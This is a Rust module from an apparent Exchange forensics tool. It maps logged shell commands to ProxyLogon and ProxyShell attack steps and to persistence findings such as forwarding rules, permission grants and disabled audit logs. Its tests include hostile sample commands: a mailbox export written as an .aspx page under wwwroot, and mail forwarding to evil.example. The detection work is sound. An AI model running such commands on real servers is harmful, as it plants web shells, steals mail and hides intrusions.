//! Commands: the questions that are put to one command of the Exchange management shell, whichever log tells of it.

use evidence::{Cmdlet, Moment, place};

use super::collected::Collected;
use super::trace::{Keys, Trace};
use crate::assessment::{Chain, Citation, Finding, FindingKind, Grade, Rung};

/// A command that was run, or failed.
#[derive(Debug)]
pub(crate) struct Ran<'a> {
    pub(crate) cmdlet: &'a Cmdlet,
    pub(crate) at: Option<Moment>,
    pub(crate) succeeded: bool,
    /// Who ran it; empty if unknown.
    pub(crate) user: &'a str,
    /// From where; empty if unknown.
    pub(crate) address: &'a str,
    pub(crate) request: &'a str,
}

/// Words in logs whose commands are looked at, for the search through whole blocks.
pub(crate) const WORDS: [&str; 17] = [
    "VirtualDirectory",
    "ExportRequest",
    "ExchangeCertificate",
    "ManagementRole",
    "InboxRule",
    "Forwarding",
    "MailboxPermission",
    "MailboxFolderPermission",
    "RecipientPermission",
    "ADPermission",
    "TransportRule",
    "TransportAgent",
    "RoleGroupMember",
    "AdminAuditLog",
    "MailboxAudit",
    "JournalRule",
    "New-Mailbox",
];

/// Puts all questions, and keeps what comes of it.
pub(crate) fn ask(ran: &Ran<'_>, cites: impl Fn() -> Citation, to: &mut Collected) {
    if let Some((chain, rung, grade, says, markers)) = rung_of(ran.cmdlet) {
        let grade = if ran.succeeded {
            grade
        } else {
            grade.min(Grade::Attempt)
        };
        let failed = if ran.succeeded { "" } else { " (it failed)" };
        to.add(Trace {
            chain,
            rung,
            grade,
            at: ran.at,
            says: format!("{}: {says}{failed}", ran.cmdlet.name),
            cites: cites(),
            keys: Keys {
                address: ran.address.to_owned(),
                requests: (!ran.request.is_empty())
                    .then(|| ran.request.to_owned())
                    .into_iter()
                    .collect(),
                markers,
                agent: String::new(),
            },
        });
    }
    if let Some((kind, grade, says, advice)) = finding_of(ran.cmdlet) {
        let by = if ran.user.is_empty() {
            String::new()
        } else {
            format!(", by {}", ran.user)
        };
        let failed = if ran.succeeded { "" } else { " (it failed)" };
        let finding = Finding {
            kind,
            grade,
            at: ran.at,
            says: format!("{}: {says}{by}{failed}", ran.cmdlet.name),
            advice: advice.to_owned(),
            cites: cites(),
        };
        to.find(finding);
    }
}

type Step = (Chain, Rung, Grade, String, Vec<String>);

/// Whether a text carries a program for a web page.
pub(crate) fn carries_program(text: &str) -> bool {
    let small = text.to_ascii_lowercase();
    small.contains("<script")
        || small.contains("<%")
        || (small.contains('<') && small.contains("runat"))
}

fn rung_of(cmdlet: &Cmdlet) -> Option<Step> {
    let name = cmdlet.name.to_ascii_lowercase();
    let is_directory = name.ends_with("virtualdirectory");
    if is_directory && name.starts_with("set-") {
        let url = cmdlet.parameters.iter().find(|(parameter, value)| {
            parameter.to_ascii_lowercase().ends_with("url")
                && (carries_program(value) || value.contains('<'))
        })?;
        let says = format!("put a program into the {} of a virtual directory", url.0);
        return Some((
            Chain::ProxyLogon,
            Rung::DirectorySet,
            Grade::Success,
            says,
            Vec::new(),
        ));
    }
    if is_directory && (name.starts_with("remove-") || name.starts_with("new-")) {
        let says = "a virtual directory was reset, as it is done to write a file".to_owned();
        return Some((
            Chain::ProxyLogon,
            Rung::FileWritten,
            Grade::Note,
            says,
            Vec::new(),
        ));
    }
    if name == "new-mailboxexportrequest" {
        let path = cmdlet.value("FilePath").unwrap_or_default();
        let normal = place::normal(path);
        if place::is_page(path) || place::is_web_reachable(&normal) {
            let says = format!("wrote a page as if it were an export of a mailbox: {path}");
            return Some((
                Chain::ProxyShell,
                Rung::FileWritten,
                Grade::Success,
                says,
                vec![place::name(path)],
            ));
        }
        let says = format!(
            "exported mailbox {} to {path}",
            cmdlet.value("Mailbox").unwrap_or("?")
        );
        return Some((Chain::Unknown, Rung::Export, Grade::Note, says, Vec::new()));
    }
    if matches!(
        name.as_str(),
        "new-exchangecertificate" | "export-exchangecertificate" | "new-mailboxsearch"
    ) {
        let file = ["RequestFile", "FileName", "FilePath"]
            .iter()
            .find_map(|parameter| cmdlet.value(parameter))?;
        if place::is_page(file) || place::is_web_reachable(&place::normal(file)) {
            let says = format!("wrote a page as if it were a certificate request: {file}");
            return Some((
                Chain::ProxyShell,
                Rung::FileWritten,
                Grade::Success,
                says,
                vec![place::name(file)],
            ));
        }
        return None;
    }
    if name == "new-managementroleassignment"
        && cmdlet
            .value("Role")
            .is_some_and(|role| role.to_ascii_lowercase().contains("import export"))
    {
        let says = "gave the right to export mailboxes".to_owned();
        return Some((
            Chain::ProxyShell,
            Rung::DirectorySet,
            Grade::Note,
            says,
            Vec::new(),
        ));
    }
    None
}

type Stays = (FindingKind, Grade, String, &'static str);

/// What stays after the patch.
fn finding_of(cmdlet: &Cmdlet) -> Option<Stays> {
    let name = cmdlet.name.to_ascii_lowercase();
    let value = |name: &str| {
        cmdlet
            .value(name)
            .filter(|value| !value.is_empty() && !value.eq_ignore_ascii_case("$null"))
    };
    let whose = value("Mailbox")
        .or_else(|| value("Identity"))
        .unwrap_or("?");
    Some(match name.as_str() {
        "new-inboxrule" | "set-inboxrule" | "new-inboxrules" | "updateinboxrules" => {
            let whither = [
                "ForwardTo",
                "RedirectTo",
                "ForwardAsAttachmentTo",
                "SendTextMessageNotificationTo",
            ]
            .iter()
            .find_map(|way| value(way));
            let hides =
                value("DeleteMessage").is_some_and(is_true) || value("MoveToFolder").is_some();
            match whither {
                Some(whither) => (
                    FindingKind::InboxRule,
                    Grade::Note,
                    format!("mail of {whose} is sent on to {whither}"),
                    ADVICE_RULE,
                ),
                None if hides => (
                    FindingKind::InboxRule,
                    Grade::Note,
                    format!("mail of {whose} is deleted or moved away"),
                    ADVICE_RULE,
                ),
                None => return None,
            }
        }
        "set-mailbox" => {
            let whither = value("ForwardingSmtpAddress").or_else(|| value("ForwardingAddress"));
            if let Some(whither) = whither {
                (
                    FindingKind::Forward,
                    Grade::Note,
                    format!("mail of {whose} is sent on to {whither}"),
                    ADVICE_RULE,
                )
            } else if value("AuditEnabled").is_some_and(is_false) {
                (
                    FindingKind::Tampering,
                    Grade::Note,
                    format!("what happens in {whose} is no longer logged"),
                    ADVICE_TAMPERING,
                )
            } else {
                let who = value("GrantSendOnBehalfTo")?;
                (
                    FindingKind::MailboxRight,
                    Grade::Note,
                    format!("{who} may send in the name of {whose}"),
                    ADVICE_RIGHT,
                )
            }
        }
        "add-mailboxpermission"
        | "add-recipientpermission"
        | "add-adpermission"
        | "add-mailboxfolderpermission"
        | "set-mailboxfolderpermission" => {
            let who = value("User")
                .or_else(|| value("Trustee"))
                .unwrap_or("somebody");
            let rights = value("AccessRights")
                .or_else(|| value("ExtendedRights"))
                .unwrap_or("rights");
            (
                FindingKind::MailboxRight,
                Grade::Note,
                format!("{who} got {rights} on {whose}"),
                ADVICE_RIGHT,
            )
        }
        "new-transportrule" | "set-transportrule" => {
            let whither = [
                "BlindCopyTo",
                "RedirectMessageTo",
                "CopyTo",
                "AddToRecipients",
            ]
            .iter()
            .find_map(|way| value(way))?;
            (
                FindingKind::TransportRule,
                Grade::Note,
                format!("mail of the organisation is copied or sent on to {whither}"),
                ADVICE_RULE,
            )
        }
        "new-journalrule" => {
            let whither = value("JournalEmailAddress").unwrap_or("?");
            (
                FindingKind::TransportRule,
                Grade::Note,
                format!("all mail is copied to {whither}"),
                ADVICE_RULE,
            )
        }
        "install-transportagent" | "enable-transportagent" => {
            let what = value("AssemblyPath")
                .or_else(|| value("Identity"))
                .unwrap_or("?");
            (
                FindingKind::TransportAgent,
                Grade::Attempt,
                format!("a program in the flow of mail: {what}"),
                "Have the program looked at before anything else; a transport agent sees every mail.",
            )
        }
        "add-rolegroupmember" | "update-rolegroupmember" => {
            let who = value("Member").or_else(|| value("Members")).unwrap_or("?");
            (
                FindingKind::RoleGroup,
                Grade::Note,
                format!(
                    "{who} is now a member of {}",
                    value("Identity").unwrap_or("?")
                ),
                ADVICE_RIGHT,
            )
        }
        "new-managementroleassignment" => {
            let who = ["User", "SecurityGroup", "Policy"]
                .iter()
                .find_map(|way| value(way))
                .unwrap_or("?");
            (
                FindingKind::RoleGroup,
                Grade::Note,
                format!("{who} got the role {}", value("Role").unwrap_or("?")),
                ADVICE_RIGHT,
            )
        }
        "set-adminauditlogconfig"
            if value("AdminAuditLogEnabled").is_some_and(is_false)
                || value("UnifiedAuditLogIngestionEnabled").is_some_and(is_false) =>
        {
            (
                FindingKind::Tampering,
                Grade::Attempt,
                "what administrators do is no longer logged".to_owned(),
                ADVICE_TAMPERING,
            )
        }
        "remove-mailboxexportrequest" => (
            FindingKind::Tampering,
            Grade::Note,
            "the trace of an export of a mailbox was removed".to_owned(),
            ADVICE_TAMPERING,
        ),
        _ => return None,
    })
}

const ADVICE_RULE: &str =
    "Ask whoever owns the mailbox or made the rule; remove what nobody knows.";
const ADVICE_RIGHT: &str = "Ask whether this was ordered; take it back if nobody knows.";
const ADVICE_TAMPERING: &str =
    "Find out who did it and why; what happened since may not be in the logs.";

/// Whether a value switches on.
pub(crate) fn is_true(value: &str) -> bool {
    matches!(
        value.to_ascii_lowercase().trim_start_matches('$'),
        "true" | "1" | "yes" | ""
    )
}

fn is_false(value: &str) -> bool {
    matches!(
        value.to_ascii_lowercase().trim_start_matches('$'),
        "false" | "0" | "no"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ask_one(name: &str, parameters: &str, succeeded: bool) -> Collected {
        let mut collected = Collected::default();
        let cmdlet = Cmdlet::with_parameters(name, parameters);
        let ran = Ran {
            cmdlet: &cmdlet,
            at: None,
            succeeded,
            user: "",
            address: "",
            request: "",
        };
        ask(
            &ran,
            || Citation {
                file: String::new(),
                line: 1,
                text: String::new(),
            },
            &mut collected,
        );
        collected
    }

    #[test]
    fn a_page_written_as_an_export_is_a_rung() {
        let path =
            r#"-Mailbox "anna" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\xx.aspx""#;
        let collected = ask_one("New-MailboxExportRequest", path, true);
        let trace = &collected.traces[0];
        assert_eq!(
            (trace.rung, trace.grade, trace.keys.markers.as_slice()),
            (
                Rung::FileWritten,
                Grade::Success,
                ["xx.aspx".to_owned()].as_slice()
            )
        );
        assert_eq!(
            ask_one("New-MailboxExportRequest", path, false).traces[0].grade,
            Grade::Attempt
        );
        assert_eq!(
            ask_one(
                "New-MailboxExportRequest",
                r#"-FilePath "\\fs\pst\anna.pst""#,
                true
            )
            .traces[0]
                .grade,
            Grade::Note
        );
    }

    #[test]
    fn everyday_commands_say_nothing() {
        for (name, parameters) in [
            ("Get-Mailbox", "-ResultSize \"1\""),
            (
                "Set-OabVirtualDirectory",
                "-ExternalUrl \"https://mail.example.org/OAB\"",
            ),
            ("Set-Mailbox", "-Identity \"HealthMailbox\" -Password \"*\""),
            ("New-InboxRule", "-Name \"x\" -MarkAsRead \"True\""),
        ] {
            let collected = ask_one(name, parameters, true);
            assert!(
                collected.traces.is_empty() && collected.findings.is_empty(),
                "{name}"
            );
        }
    }

    #[test]
    fn what_stays_is_found() {
        for (name, parameters, kind) in [
            (
                "New-InboxRule",
                "-Mailbox \"anna\" -ForwardTo \"x@evil.example\"",
                FindingKind::InboxRule,
            ),
            (
                "Set-Mailbox",
                "-Identity \"anna\" -ForwardingSmtpAddress \"smtp:x@evil.example\"",
                FindingKind::Forward,
            ),
            (
                "Add-MailboxPermission",
                "-Identity \"anna\" -User \"x\" -AccessRights \"FullAccess\"",
                FindingKind::MailboxRight,
            ),
            (
                "Install-TransportAgent",
                "-Name \"Evil\" -AssemblyPath \".\\a.dll\"",
                FindingKind::TransportAgent,
            ),
            (
                "Set-AdminAuditLogConfig",
                "-AdminAuditLogEnabled $false",
                FindingKind::Tampering,
            ),
        ] {
            assert_eq!(
                ask_one(name, parameters, true)
                    .findings
                    .first()
                    .map(|finding| finding.kind),
                Some(kind),
                "{name}"
            );
        }
    }
}
